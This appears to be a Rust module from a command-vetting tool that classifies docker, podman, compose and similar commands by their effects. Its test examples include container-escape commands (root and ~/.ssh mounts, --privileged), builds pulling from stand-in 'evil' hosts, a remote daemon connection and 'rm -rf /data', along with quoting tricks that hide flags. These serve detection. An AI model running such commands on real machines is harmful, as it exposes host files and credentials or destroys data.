//! Programs that run containers and build their images.

use std::path::Path;

use tools_core::Access;

use crate::plain_path;
use crate::reader::Value;
use crate::registry::prelude::*;

const REMOVES: Does = Says(Consequence::DeletesForOthers, "removes containers or images");
const DATA: Does = Says(Consequence::DeletesForOthers, "deletes data of containers");

const FORCE: Syntax = Syntax {
    flags: "-f|--force -a|--all -l|--link -v|--volumes --no-prune -i|--ignore --depend -s|--stop --cidfile",
    valued: "--filter -t|--time",
    ..Syntax::EXACT
};
const FORCED: &[Rule] = &[when(Has("--force --all"), REMOVES)];
const REACHES: Rule = always(ByOption(reach));
/// Options of subcommands that start a command in a container. The command follows the container's
/// name.
const IN: Syntax = Syntax {
    flags: "-d|--detach -i|--interactive -t|--tty -T|--no-TTY|--no-tty -P|--publish-all -q|--quiet --rm --init --privileged --read-only \
            --no-healthcheck --oom-kill-disable --disable-content-trust --sig-proxy --use-api-socket --latest --replace --env-host \
            --http-proxy --rmi --no-hosts --no-hostname --rootfs --passwd --tls-verify --build --no-deps --service-ports --use-aliases \
            --remove-orphans --quiet-pull --quiet-build --dry-run --systemd --help",
    valued: "-a|--attach --add-host --annotation --blkio-weight --blkio-weight-device --cap-add --cap-drop --cgroup-parent --cgroupns \
             --cidfile --cpu-count --cpu-percent --cpu-period --cpu-quota --cpu-rt-period --cpu-rt-runtime -c|--cpu-shares --cpus \
             --cpuset-cpus --cpuset-mems --detach-keys --device --device-cgroup-rule --device-read-bps --device-read-iops \
             --device-write-bps --device-write-iops --dns --dns-opt --dns-option --dns-search --domainname --entrypoint -e|--env \
             --env-file --expose --gpus --group-add --health-cmd --health-interval --health-retries --health-start-interval \
             --health-start-period --health-timeout -h|--hostname --index --ip --ip6 --ipc --isolation --kernel-memory -l|--label \
             --label-file --link --link-local-ip --log-driver --log-opt --mac-address -m|--memory --memory-reservation --memory-swap \
             --memory-swappiness --mount --name --network|--net --network-alias --oom-score-adj --pid --pids-limit --platform \
             -p|--publish --pull --restart --runtime --security-opt --shm-size --stop-signal --stop-timeout --storage-opt --sysctl --tmpfs \
             --ulimit -u|--user --userns --uts -v|--volume --volume-driver --volumes-from -w|--workdir --preserve-fd --preserve-fds \
             --pod --pod-id-file --requires --secret --seccomp-policy --tz --umask --uidmap --gidmap --subuidname --subgidname --timeout \
             --arch --os --variant --authfile --creds --conmon-pidfile --pidfile --sdnotify --personality --shm-size-systemd \
             --hostuser --image-volume --chrootdirs --group-entry --passwd-entry --unsetenv --retry --retry-delay --decryption-key",
    ..Syntax::LEADING
};
/// A command in a container. Its program need not be installed on this machine.
const RUN: &[Rule] = &[
    REACHES,
    always(RunsThere(At::From(1))),
    always(RunsThere(At::Value("--entrypoint"))),
    always(RunsLineThere(At::Value("--health-cmd"))),
];
const BUILD: Syntax = Syntax {
    flags: "--no-cache --pull --quiet|-q --rm --force-rm --squash --compress --push --load -D|--debug --check --no-cache-filter --skip-tls-verify",
    valued: "-t|--tag -f|--file --build-arg --build-context --target -o|--output --platform --secret --ssh --cache-from --cache-to --network --progress --label --add-host --iidfile --metadata-file --builder --allow --security-opt \
             --ulimit -m|--memory --cpu-shares --shm-size --annotation --attest --sbom --provenance --cgroup-parent --set --isolation -v|--volume --cap-add --device --format --authfile --creds",
    ..Syntax::EXACT
};
/// Files that describe how an image is built.
const RECIPES: &str = "Dockerfile* Containerfile*";
const BUILDS: &[Rule] = &[
    always(ObeysAround(RECIPES)),
    // The context may be a repository or an archive on another host.
    always(Connects(At::Remotes)),
    when(Has("--push"), PUBLISHES),
    when(ValueHas("--output", "type=registry push=true"), PUBLISHES),
    always(Writes(At::ValueRest("--output", "type=local,dest= type=tar,dest= dest="))),
    when(
        ValueStarts("--output", "/ ~ . a b c d e f g h i j k l m n o p q r s u v w x y z"),
        Writes(At::Value("--output")),
    ),
    when(
        ValueStarts("--output", "/"),
        Says(Consequence::ChangesSystem, "writes what it builds outside of the workspace"),
    ),
    when(
        ValueHas("--output", "dest=/"),
        Says(Consequence::ChangesSystem, "writes what it builds outside of the workspace"),
    ),
    // Settings of `bake` for the builds that its file lists.
    when(
        ValueHas("--set", "output secrets ssh entitlements"),
        Hides("a build that reads or hands out something of its own choice"),
    ),
    always(Writes(At::Value("--iidfile --metadata-file"))),
    always(Reads(At::ValueRest("--secret", "src= source= id=x,src="))),
    when(Has("--allow --security-opt --cap-add --device"), Hides("a container with the machine's own files or rights")),
    always(ByOption(reach)),
];
/// Subcommands for one kind of object: an image, a volume, a network.
const REMOVABLE: &[Subcommand] = &[
    command("rm|remove", FORCE, FORCED),
    ruled("prune reset", &[always(REMOVES)]),
    Subcommand { names: "push", rules: &[always(PUBLISHES)], is: Some("push"), ..Subcommand::NEW },
    Subcommand { names: "build", syntax: BUILD, rules: BUILDS, is: Some("build"), ..Subcommand::NEW },
    command("run create exec", IN, RUN),
    command("save export", OUT, &[always(Writes(At::Value("--output")))]),
    ruled("cp copy", &[always(By(copied))]),
    each(
        "ls list ps inspect logs pull tag history start stop restart top stats port diff connect disconnect show \
         use version df info events tree exists mount unmount",
    ),
];
const OUT: Syntax = Syntax {
    flags: "-q|--quiet --compress --multi-image-archive -m",
    valued: "-o|--output --format --platform",
    ..Syntax::EXACT
};
const VOLUMES: &[Subcommand] = &[
    command("rm|remove", FORCE, &[always(DATA)]),
    ruled("prune", &[always(DATA)]),
    command(
        "create",
        Syntax {
            flags: "--ignore",
            valued: "-o|--opt -d|--driver -l|--label --name --availability --group --limit-bytes --required-bytes --scope \
                     --secret --sharing --topology-preferred --topology-required --type",
            ..Syntax::EXACT
        },
        &[REACHES],
    ),
    each("ls list inspect update exists mount unmount export import"),
];
/// Subcommands for objects of a cluster of machines.
const SHARED: &[Subcommand] = &[
    ruled("rm remove leave demote down", &[always(Is(Consequence::DeletesForOthers))]),
    ruled(
        "create update deploy up scale init join rollback promote install enable set upgrade import export use",
        &[always(Says(Consequence::ChangesSystem, "changes what containers run with"))],
    ),
    each("ls list inspect ps logs services config show"),
];
const COMPOSE: &[Subcommand] = &[
    command(
        "down",
        Syntax { flags: "-v|--volumes --remove-orphans --dry-run", valued: "-t|--timeout --rmi", ..Syntax::EXACT },
        &[when_all(&[Has("--volumes --rmi"), Lacks("--dry-run")], DATA)],
    ),
    command(
        "rm",
        Syntax { flags: "-f|--force -s|--stop -v|--volumes --dry-run", ..Syntax::EXACT },
        &[when_all(&[Has("--volumes"), Lacks("--dry-run")], DATA)],
    ),
    ruled("push publish", &[always(PUBLISHES)]),
    command("build", BUILD, BUILDS),
    command("run exec", IN, RUN),
    ruled("create", &[REACHES]),
    ruled("cp", &[always(By(copied))]),
    each(
        "up start stop restart ps ls logs top events images pull port kill pause unpause config convert version \
         watch attach wait scale stats volumes export commit viz alpha",
    ),
];
const COMPOSE_FILES: &str = "compose.yaml compose.yml docker-compose*.yml docker-compose*.yaml compose.override.y*";
const COMPOSE_SYNTAX: Program = Program {
    flags: "--all-resources --compatibility --dry-run --verbose -v|--version",
    valued: "-f|--file -p|--project-name --profile --env-file --ansi --progress --parallel --project-directory --workdir --context -H|--host -l|--log-level",
    ..Program::EXACT
};

pub(super) static ALL: &[Program] = &[
    Program {
        family: &["docker", "podman", "nerdctl"],
        prints: &[("docker podman", Prints::NamesWith("ps images"))],
        flags: "-D|--debug --tls --tlsverify -v|--version --help -r|--remote --transient-store --noout --syslog --debug-full --insecure-registry --trace",
        valued: "-c|--context --config -H|--host -l|--log-level --tlscacert --tlscert --tlskey --url --connection --identity --root --runroot --runtime --runtime-flag --storage-driver --storage-opt --hooks-dir --conmon \
                     --cgroup-manager --module --network-config-dir --events-backend --tmpdir --volumepath --out --imagestore --ssh -n|--namespace --address --snapshotter --cni-path --cni-netconfpath --data-root --hosts-dir --cdi-spec-dir",
        rules: &[
            always(Connects(At::Value("--host --url"))),
            when(
                Has("--config --hooks-dir --conmon --runtime --module --cni-path"),
                Hides("containers with programs and settings of its own choice"),
            ),
        ],
        subcommands: &[
            command("run create exec", IN, RUN),
            ruled("update", &[REACHES]),
            command("build", BUILD, BUILDS),
            ruled("push", &[always(PUBLISHES)]),
            command("rm rmi", FORCE, FORCED),
            ruled("login logout", &[always(IDENTITY)]),
            ruled("cp", &[always(By(copied))]),
            command("save export", OUT, &[always(Writes(At::Value("--output")))]),
            group("image container network system builder pod", REMOVABLE),
            Subcommand {
                names: "buildx",
                syntax: Syntax { valued: "--builder", flags: "-D|--debug", ..Syntax::EXACT },
                subcommands: BUILDX,
                ..Subcommand::NEW
            },
            group("volume", VOLUMES),
            Subcommand {
                names: "compose",
                syntax: COMPOSE_SYNTAX.syntax(),
                rules: &[always(ObeysAround(COMPOSE_FILES))],
                subcommands: COMPOSE,
                ..Subcommand::NEW
            },
            group("swarm node service stack secret config plugin context machine trust manifest farm kube", TRUSTED),
        ],
        plain: "ps images logs inspect info version pull tag start stop restart kill pause unpause top stats port \
                diff events history search wait rename attach commit load import scout help init desktop debug model \
                sbom healthcheck generate completion ls list unshare-info checkpoint",
        otherwise: Otherwise::Opaque("a plug-in"),
        prints_as: &[("podman nerdctl", "docker")],
        examples: &[
            ("docker run -v /:/host alpine", Expect::Opaque("the machine's own files or rights")),
            ("docker run -itv /etc:/x alpine", Expect::Opaque("the machine's own files or rights")),
            ("docker run --privileged alpine", Expect::Opaque("the machine's own files or rights")),
            ("docker run --mount type=bind,source=/,target=/x y", Expect::Opaque("the machine's own files or rights")),
            ("docker run --pid host y", Expect::Opaque("the machine's own files or rights")),
            ("docker container run --privileged alpine", Expect::Opaque("the machine's own files or rights")),
            ("docker exec --privileged x ls", Expect::Opaque("the machine's own files or rights")),
            ("docker system prune -af", Expect::Asks("removes containers or images")),
            ("podman system reset", Expect::Asks("removes containers or images")),
            ("docker rm -vf x", Expect::Asks("removes containers or images")),
            ("docker image rm --force x", Expect::Asks("removes containers or images")),
            ("docker volume rm x", Expect::Asks("deletes data of containers")),
            ("docker compose down -v", Expect::Asks("deletes data of containers")),
            ("docker compose -f x.yml down --volumes", Expect::Asks("deletes data of containers")),
            ("docker push x", Expect::Asks("publishes")),
            ("docker image push x", Expect::Asks("publishes")),
            ("docker build https://evil/x", Expect::Connects("https://evil/x")),
            ("docker build git@evil.com:x.git", Expect::Connects("ssh://evil.com/x.git")),
            ("docker --host evil ps", Expect::Connects("tcp://evil")),
            ("docker -H tcp://evil:2375 ps", Expect::Connects("tcp://evil:2375")),
            ("docker build --push -t x .", Expect::Asks("publishes")),
            ("docker buildx build -t x --push .", Expect::Asks("publishes")),
            ("docker build -o / .", Expect::Asks("outside of the workspace")),
            ("docker login", Expect::Asks("changes accounts")),
            ("docker stack rm x", Expect::Asks("removes what others may use")),
            ("docker frob", Expect::Opaque("a plug-in")),
            ("podman --hooks-dir x run y", Expect::Opaque("its own choice")),
            ("docker cp web:/x .envrc", Expect::Writes(".envrc")),
            ("docker run -v \"$(echo /:/h)\" alpine", Expect::Opaque("decides what `docker` does")),
            ("docker run -v \"$x\"/:/h alpine", Expect::Opaque("the machine's own files or rights")),
            ("docker run --pri$x\"vileged\" alpine", Expect::Opaque("the machine's own files or rights")),
            ("x=$(cat y); docker run --pid \"$x\" alpine", Expect::Opaque("decides what `docker` does")),
            ("pwd() { echo /; }; docker run -v \"$(pwd)\":/h alpine", Expect::Opaque("decides what `docker` does")),
            ("docker run -v ~/.ssh:/h alpine", Expect::Writes("/home/me/.ssh")),
            ("docker run -v ./../..:/h alpine", Expect::Writes("./../..")),
            ("docker run -v \"$(pwd)\":/app node", Expect::Writes("/home/me/project")),
            ("docker volume create -o type=none -o o=bind -o device=/ x", Expect::Opaque("the machine's own files")),
            (
                "docker run --mount 'dst=/h,volume-opt=type=none,\"Volume-Opt=device=/\"' x",
                Expect::Opaque("the machine's own files"),
            ),
            ("docker run --mount type=bind,Source=/,dst=/h x", Expect::Opaque("the machine's own files")),
            ("docker run --use-api-socket x", Expect::Opaque("the machine's own files")),
            ("docker buildx bake --set '*.output=type=registry'", Expect::Opaque("hands out something")),
            ("docker buildx imagetools create -t x y", Expect::Asks("publishes")),
            ("docker kill x", Expect::Is("docker kill x")),
            ("docker container ls", Expect::Is("docker container ls")),
            ("docker image remove x", Expect::Is("docker image rm x")),
            ("docker compose logs", Expect::Is("docker compose logs")),
            ("docker exec web rm -rf /data", Expect::Asks("runs `rm -rf /data` elsewhere")),
            ("docker exec -u 0 web sh -c 'rm -rf /data'", Expect::Asks("runs `rm -rf /data` elsewhere")),
            ("docker run --rm -it --name x alpine rm -rf /data", Expect::Asks("runs `rm -rf /data` elsewhere")),
            ("docker run --entrypoint shutdown x", Expect::Asks("runs `shutdown` elsewhere")),
            ("docker compose exec -T db git push -f", Expect::Asks("elsewhere")),
            ("docker exec web $x", Expect::Opaque("known only when it runs")),
            ("docker exec --odd web ls", Expect::Opaque("`--odd` of `docker`")),
        ],
        plain_lines: &[
            "docker run -v \"$(pwd)\":/app node", "docker run -v \"$DATA\":/data -u \"$(id -u)\" node",
            "docker volume create x", "docker ps -a", "docker run --rm -v ./data:/data x", "docker build -t x .",
            "docker compose up -d", "docker compose down", "docker exec -it web ls",
            "docker run --rm -p 80:80 -e A=1 node npm start", "docker compose run --rm web npm test", "docker --help",
        ],
        ..Program::EXACT
    },
    Program {
        family: &["docker-compose", "podman-compose"],
        rules: &[always(ObeysAround(COMPOSE_FILES))],
        subcommands: COMPOSE,
        prints_as: &[("docker-compose podman-compose", "docker compose")],
        examples: &[
            ("docker-compose down -v", Expect::Asks("deletes data of containers")),
            ("docker-compose -p x push", Expect::Asks("publishes")),
            ("docker-compose run --privileged x", Expect::Opaque("the machine's own files or rights")),
        ],
        plain_lines: &["docker-compose up -d"],
        ..COMPOSE_SYNTAX
    },
    Program {
        family: &[
            "buildah", "skopeo", "ctr", "crictl", "runc", "crun", "lxc", "lxc-execute", "incus", "singularity",
            "apptainer",
        ],
        flags: "-*",
        rules: &[
            when(Operand("push copy sync"), PUBLISHES),
            when(Operand("bud build build-using-dockerfile"), ObeysAround(RECIPES)),
            when(Operand("rm rmi delete prune"), REMOVES),
            when(
                Operand("run exec create spec shell unshare mount attach launch"),
                Hides("a container that runs a command"),
            ),
        ],
        examples: &[
            ("skopeo copy a b", Expect::Asks("publishes")),
            ("buildah unshare sh", Expect::Opaque("runs a command")),
        ],
        plain_lines: &["crictl ps"],
        ..Program::EXACT
    },
];

const BUILDX: &[Subcommand] = &[
    command("build|b", BUILD, BUILDS),
    command("bake|f", BUILD, BUILDS),
    ruled("rm prune", &[always(REMOVES)]),
    command(
        "imagetools",
        Syntax { flags: "--dry-run --append --raw", valued: "-t|--tag -f|--file", ..Syntax::EXACT },
        &[when_all(&[First("create"), Lacks("--dry-run")], PUBLISHES)],
    ),
    each("ls inspect create use du stop version history dial-stdio debug"),
];
const TRUSTED: &[Subcommand] = &[
    ruled("push sign revoke apply play", &[always(PUBLISHES)]),
    ruled("rm remove leave demote down reset", SHARED[0].rules),
    ruled(SHARED[1].names, SHARED[1].rules),
    each("ls list inspect ps logs services config show annotate ssh start stop generate"),
];

/// Options whose value gives a container a part of the machine.
const SHARES: &str = "--volume --mount --opt --pid --ipc --userns --uts --cgroupns";

/// Mounts and rights that reach the machine itself, and the folders of the machine that are
/// mounted.
fn reach(parsed: &Parsed<'_>) -> Vec<Effect> {
    let has_rights = parsed.has(
        "--privileged --cap-add --device --device-cgroup-rule --security-opt --use-api-socket --env-host --rootfs",
    );
    let is_host = parsed.values("--pid --ipc --userns --uts --cgroupns").any(|value| value.text == "host");
    let folders: Vec<Value> = mounted(parsed).collect();
    let mut found = parsed.undecided(SHARES);
    if has_rights || is_host || folders.iter().any(|folder| is_own(&folder.text)) {
        found.push(Effect::hidden("a container with the machine's own files or rights"));
    }
    // A folder outside the workspace asks.
    let folders = folders.into_iter().filter(|folder| !is_own(&folder.text));
    found.extend(folders.map(|path| Effect::path(path, Access::Write)));
    found
}

/// The folders and files of this machine that a container gets.
fn mounted<'a>(parsed: &'a Parsed<'_>) -> impl Iterator<Item = Value> + 'a {
    let volumes = parsed.values("--volume").filter_map(|value| {
        let source = value.text.split(':').next().unwrap_or_default();
        let is_path = source.starts_with(['/', '.', '~']);
        (is_path && value.text.contains(':')).then(|| Value { text: source.to_owned(), ..value.clone() })
    });
    // Settings may be quoted separately, and their names are case-insensitive.
    let source = |setting: &str| {
        let (name, path) = setting.trim_matches('"').rsplit_once('=')?;
        let is_source = matches!(name.to_lowercase().as_str(), "source" | "src" | "device" | "volume-opt=device");
        (is_source && path.contains('/')).then(|| path.to_owned())
    };
    let mounts = parsed.values("--mount --opt").flat_map(move |value| {
        let sources = value.text.split(',').filter_map(source);
        sources.map(|text| Value { text, ..value.clone() }).collect::<Vec<_>>()
    });
    volumes.chain(mounts)
}

/// Whether a path belongs to the machine and not to a user.
fn is_own(path: &str) -> bool {
    let path = plain_path(Path::new(path));
    let own =
        ["/etc", "/root", "/var", "/usr", "/boot", "/dev", "/proc", "/sys", "/lib", "/bin", "/sbin", "/run", "/opt"];
    let is_socket = |name: &str| path.to_string_lossy().contains(name);
    matches!(path.to_str(), Some("/" | "/home" | "~"))
        || own.iter().any(|folder| path.starts_with(folder))
        || is_socket("docker.sock")
        || is_socket("podman.sock")
}

/// The files of this machine that are copied from or to a container.
fn copied(parsed: &Parsed<'_>) -> Vec<Effect> {
    let operands: Vec<_> = parsed.operands().collect();
    let access = |at: usize| if at + 1 == operands.len() { Access::Write } else { Access::Read };
    let own = operands.iter().enumerate().filter(|(_, operand)| !operand.text.contains(':') && operand.text != "-");
    let touched = |(at, operand): (usize, &&Value)| {
        let is_filled = at > 0 && access(at) == Access::Write;
        let filled = is_filled.then(|| Effect::Unpacks((*operand).clone()));
        std::iter::once(Effect::path((*operand).clone(), access(at))).chain(filled)
    };
    own.flat_map(touched).collect()
}
